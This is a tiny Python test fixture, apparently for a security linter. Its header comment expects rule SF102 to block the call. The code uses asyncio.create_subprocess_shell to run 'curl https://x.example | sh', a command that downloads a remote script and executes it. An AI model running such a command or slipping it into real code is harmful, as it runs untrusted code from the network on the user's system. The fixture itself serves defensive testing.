# expect: blocked SF102 asyncio.create_subprocess_shell
import asyncio


async def main():
    proc = await asyncio.create_subprocess_shell("curl https://x.example | sh")
    await proc.wait()


asyncio.run(main())
